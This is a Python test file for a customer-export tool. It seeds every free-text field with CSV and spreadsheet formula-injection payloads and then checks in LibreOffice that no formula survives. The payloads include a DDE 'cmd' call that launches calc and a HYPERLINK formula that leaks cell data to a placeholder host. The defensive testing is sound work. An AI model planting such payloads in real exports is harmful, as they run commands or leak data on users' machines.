"""No formula survives: every destination is opened in a real spreadsheet program."""

import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pyarrow as pa
import pytest

from kundedagbok.consent import Sending
from kundedagbok.destinations import destination, destinations
from kundedagbok.destinations.formulas import guarded, guarded_for_tool
from kundedagbok.export import parcel, plain_bytes, result_bytes
from kundedagbok.language import words_for
from kundedagbok.lists import Members
from tests.destinations.people import OCCASION, labels, people

TRICKS = [
    "=cmd|' /C calc'!A0",
    "+4790000001",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://x.example/?"&A1;"x")',
    " =1+1",
    '"=1+1"',
    "x\n=1+1",
    "x;=1+1",
    "x,=1+1",
    "x;-1+cmd|' /C calc'!A0",
    "\uff1d1+1",
]
FREE = (
    "customer",
    "customer_id",
    "first_name",
    "last_name",
    "full_name",
    "street",
    "postcode",
    "city",
    "favourite_category",
    "last_product",
    "phone",
)
SOFFICE = shutil.which("soffice")


def tricksters() -> pa.Table:
    """One person for each trick, who plays it in every field that is free text."""
    table = people(("yes",) * 5)
    (first, *_) = table.to_pylist()
    rows = [
        first
        | dict.fromkeys(FREE, trick)
        | {"email": f"{trick}@example.no" if place % 2 else f"a{place}@example.no"}
        | {"address": f"a{place}@example.no"}
        for place, trick in enumerate(TRICKS)
    ]
    found = pa.Table.from_pylist(rows, table.schema)
    for name in ("refill_product", "next_product", "antatt_gift"):
        found = found.append_column(name, pa.array(TRICKS))
    return found


def write_all(folder: Path) -> list[str]:
    """Every file that can leave, but plain notes."""
    words, found = words_for("nb"), Members("gold", "=1+1", tricksters(), "=1+1")
    for code in destinations():
        one = parcel(found, destination(code), words, labels(words), OCCASION)
        _write(folder, code, one.name, one.data)
    table = tricksters()
    (folder / "result.csv").write_bytes(result_bytes(table, words, labels(words)))
    book = result_bytes(table, words, labels(words), "xlsx")
    (folder / "result.xlsx").write_bytes(book)
    (folder / "plain.csv").write_bytes(plain_bytes(table, words))
    return [str(path) for path in folder.iterdir() if path.suffix != ".txt"]


def _write(folder: Path, code: str, name: str, data: bytes) -> None:
    if not name.endswith(".zip"):
        (folder / f"{code}{Path(name).suffix}").write_bytes(data)
        return
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for place, part in enumerate(archive.namelist()):
            target = folder / f"{code}_{place}{Path(part).suffix}"
            target.write_bytes(archive.read(part))


def opened(files: list[str], out: Path, read: str | None) -> dict[str, str]:
    """Each file as the spreadsheet program understood it, as flat XML."""
    assert SOFFICE
    command = [SOFFICE, f"-env:UserInstallation={(out / 'profile').as_uri()}"]
    command += ["--headless", "--convert-to", "fods", "--outdir", str(out)]
    command += [f"--infilter=CSV:{read}"] if read else []
    done = subprocess.run(
        [*command, *files], capture_output=True, timeout=300, check=True
    )
    found = {path.name: path.read_text("utf-8") for path in out.glob("*.fods")}
    assert len(found) == len({Path(one).stem for one in files}), done.stderr
    return found


@pytest.mark.skipif(SOFFICE is None, reason="there is no LibreOffice on this machine")
@pytest.mark.parametrize("read", [None, "59,34,76,1"], ids=["commas", "semicolons"])
def test_no_formula_survives_in_a_spreadsheet(tmp_path: Path, read: str | None) -> None:
    """Whichever sign the program parts the cells at, the file's own or another."""
    source, out = tmp_path / "source", tmp_path / "out"
    source.mkdir()
    out.mkdir()
    wanted = (".csv",) if read else (".csv", ".xlsx")
    files = [one for one in write_all(source) if one.endswith(wanted)]
    (source / "trap.csv").write_text("a\n=1+1\n")
    found = opened([*files, str(source / "trap.csv")], out, read)
    assert "table:formula" in found.pop("trap.fods"), "the check itself sees nothing"
    assert len(found) > 20 if read is None else len(found) > 15
    formulas = {
        name: re.findall(r'table:formula="([^"]*)"', text)
        for name, text in found.items()
    }
    assert not any(formulas.values()), {k: v for k, v in formulas.items() if v}


@pytest.mark.skipif(SOFFICE is None, reason="there is no LibreOffice on this machine")
def test_the_letter_opens_with_its_fields_alone(tmp_path: Path) -> None:
    files = [one for one in write_all(tmp_path) if one.endswith(".docx")]
    assert len(files) == 1
    with zipfile.ZipFile(files[0]) as letter:
        text = letter.read("word/document.xml").decode()
    assert set(re.findall(r"(?:instrText[^>]*>|w:instr=\")\s*(\w+)", text)) == {
        "MERGEFIELD"
    }


def test_a_person_and_a_tool_get_the_same_guard_but_for_plain_numbers() -> None:
    for trick in TRICKS:
        assert guarded(trick)[0] == "'" or trick[0] in 'x"'
        assert "\n" not in guarded(trick) and "\t" not in guarded(trick)
    assert guarded_for_tool("+4790000001") == "+4790000001"
    assert guarded_for_tool("-12") == "-12" and guarded("-12") == "'-12"
    assert guarded_for_tool("=1") == "'=1" and guarded("x;=1") == "x;'=1"


@pytest.mark.parametrize(
    "text", ["Kaffe 99,-", "Sett; -20 %", "1,5 l", "a@b.no", "Anne-Marie, +1", "Å,-"]
)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert guarded(text) == guarded_for_tool(text) == text


def test_an_address_that_could_start_a_formula_does_not_leave() -> None:
    words = words_for("en")
    found = Members("gold", "Gold customers", tricksters())
    one = parcel(
        found, destination("klaviyo"), words, labels(words), OCCASION, Sending()
    )
    lines = one.data.decode().splitlines()
    assert len(lines) == one.rows + 1
    assert all(re.match(r"[\w\"]|,\+47", line) for line in lines)
